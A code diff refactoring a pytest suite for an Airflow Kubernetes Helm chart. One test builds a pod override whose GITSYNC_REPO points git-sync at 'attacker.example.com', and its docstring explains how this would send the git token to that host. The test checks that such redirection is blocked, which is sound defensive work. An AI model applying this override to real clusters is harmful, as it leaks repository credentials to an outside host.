@@ -13,6 +13,7 @@ import yaml
 from kubernetes.client import models as k8s
 
 from eksflow_dev.cluster.client import ClientError
+from tests.helm import rendered_templates
 from tests.support.cluster import chart_render, client_as, control_plane, kubectl
 from tests.support.worker_pods import build_worker_pod, reference_worker_pods, serialized
 
@@ -58,8 +59,7 @@ def scheduler(cluster):
 
 @pytest.fixture(scope="module")
 def templates(docs):
-    (configmap,) = [d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"].endswith("pod-templates")]
-    return {name: yaml.safe_load(body) for name, body in configmap["data"].items()}
+    return rendered_templates(docs)
 
 
 def test_every_reference_task_pod_airflow_builds_is_admitted_from_the_scheduler(scheduler, docs):
@@ -238,8 +238,7 @@ def test_a_pod_override_cannot_point_git_sync_with_its_credentials_at_another_ho
     """Airflow merges an override's init container of the same name and appends its env: a second GITSYNC_REPO
     would win (Kubernetes takes the last) and git-sync would send the token there."""
     docs = chart_render(NAMESPACE, "gitSync.auth.type=https", "gitSync.auth.existingSecret=git-creds")
-    (configmap,) = [d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"].endswith("pod-templates")]
-    template = yaml.safe_load(configmap["data"]["default.yaml"])
+    template = rendered_templates(docs)["default.yaml"]
     evil = k8s.V1EnvVar(name="GITSYNC_REPO", value="https://attacker.example.com/dags.git")
     override = _override(init_containers=[k8s.V1Container(name="git-sync-init", env=[evil])])
     with control_plane(tmp_path / "cluster") as running:
